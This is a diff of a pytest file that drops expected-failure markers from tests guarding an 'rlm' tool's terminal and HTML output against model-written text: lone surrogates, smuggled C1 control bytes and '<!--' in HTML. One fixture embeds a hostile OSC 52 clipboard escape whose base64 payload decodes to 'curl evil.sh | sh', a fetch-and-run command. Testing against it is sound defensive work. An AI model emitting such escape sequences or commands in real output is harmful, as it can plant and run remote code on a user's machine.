@@ -84,7 +84,6 @@ def policy_off(monkeypatch):
 SURROGATE_REPLY = "Done.\nFINAL(the answer \ud800 is 42)"
 
 
-@pytest.mark.xfail(strict=True, reason="hole 1: a lone surrogate in a reply raises UnicodeEncodeError out of run()")
 @pytest.mark.parametrize("graph", ["run.html", "run.json"])
 def test_a_lone_surrogate_in_the_reply_does_not_raise_out_of_run_when_files_are_written(tmp_path, graph):
     lm, _ = scripted_lm([SURROGATE_REPLY])
@@ -94,13 +93,11 @@ def test_a_lone_surrogate_in_the_reply_does_not_raise_out_of_run_when_files_are_
     assert json.loads(history.read_text(encoding="utf-8"))[0]["model"]
 
 
-@pytest.mark.xfail(strict=True, reason="hole 1: `rlm ask` ends with a UnicodeEncodeError traceback")
 def test_rlm_ask_prints_an_answer_with_a_lone_surrogate(tmp_path, monkeypatch):
     shown = _ask_in_process(SURROGATE_REPLY, tmp_path, monkeypatch)
     assert b"42" in shown
 
 
-@pytest.mark.xfail(strict=True, reason="hole 1: one item's answer ends the whole batch with UnicodeEncodeError")
 def test_a_lone_surrogate_in_one_items_answer_does_not_end_the_batch(tmp_path):
     server = FakeOpenAIServer(lambda body: SURROGATE_REPLY).start()
     try:
@@ -124,13 +121,11 @@ C1_ANSWER = "42" + _smuggled("\x9d") + "52;c;Y3VybCBldmlsLnNoIHwgc2g=" + _smuggl
 C1_BYTES = (b"\xc2\x9b", b"\xc2\x9c", b"\xc2\x9d", b"\xe2\x80\xae")  # CSI, ST, OSC, RLO in UTF-8
 
 
-@pytest.mark.xfail(strict=True, reason="hole 2: surrogate-escaped C1 controls reach the terminal through rlm ask")
 def test_rlm_ask_writes_no_c1_control_bytes_smuggled_as_surrogates(tmp_path, monkeypatch):
     shown = _ask_in_process(f"Done.\nFINAL({C1_ANSWER})", tmp_path, monkeypatch)
     assert b"42" in shown and [c for c in C1_BYTES if c in shown] == [], shown
 
 
-@pytest.mark.xfail(strict=True, reason="hole 2: surrogate-escaped C1 controls reach the terminal through rlm view")
 def test_rlm_view_of_a_hostile_runs_graph_writes_no_c1_control_bytes(tmp_path, monkeypatch):
     graph = tmp_path / "run.json"  # the JSON graph is ASCII: it is written
     lm, _ = scripted_lm([f"Done.\nFINAL({C1_ANSWER})"])
@@ -402,7 +397,6 @@ def test_the_html_view_keeps_model_text_inside_its_data_block(tmp_path):
     assert page.lower().count("</script") == 2 and "<!--" not in data
 
 
-@pytest.mark.xfail(strict=True, reason="hole 5: '<!--' in model text leaves the HTML view's data unparsable")
 def test_the_html_views_data_block_stays_json_whatever_the_model_wrote(tmp_path):
     _, data = _html_data_block(tmp_path)
     answer = json.loads(data)["nodes"][0]["answer"]  # what the page's JSON.parse must read
